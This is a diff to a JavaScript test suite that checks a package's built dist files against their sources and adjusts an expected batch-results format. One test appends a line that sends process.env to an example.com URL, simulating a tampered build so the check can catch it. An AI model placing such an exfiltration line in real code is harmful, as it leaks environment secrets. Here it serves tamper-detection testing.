@@ -132,7 +132,7 @@ describe.skipIf(suite.skip)(suite.title, () => {
     });
   });
 
-  it('has the dist that its sources give; a byte more is shown', async () => {
+  it('is refused with a dist that its sources do not give, whose difference is shown', async () => {
     const file = join(clone.folder, 'packages/actions/dist/submit.mjs');
     await appendFile(file, "fetch('https://example.com/?' + process.env);\n");
     const dirty = await clone.run(DIST);
@@ -140,10 +140,6 @@ describe.skipIf(suite.skip)(suite.title, () => {
     expect(dirty.code).toBe(1);
     expect(dirty.output).toContain("-fetch('https://example.com/?' + process.env);");
     expect(dirty.output).toContain('packages/actions/dist is not what the sources give; the difference is above.');
-    expect(await clone.run(DIST)).toEqual({
-      code: 0,
-      output: 'packages/actions/dist is what the sources give, byte for byte\n',
-    });
   });
 
   it('is made of files that are the same when it is made again, each with its digest', async () => {
@@ -422,7 +418,11 @@ describe.skipIf(suite.skip)(suite.title, () => {
       const results = await npx('batch', 'results', job, ...store, '--out', 'results.ndjson');
       expect(results, results.output).toMatchObject({ code: 0 });
       const [result = '', none] = (await readFile(join(empty, 'results.ndjson'), 'utf8')).split('\n');
-      expect(JSON.parse(result)).toMatchObject({ custom_id: 'one', status: 'answered' });
+      expect(JSON.parse(result)).toMatchObject({
+        custom_id: 'one',
+        outcome: 'answered',
+        response: { status_code: 200 },
+      });
       expect(none).toBe('');
     });
 
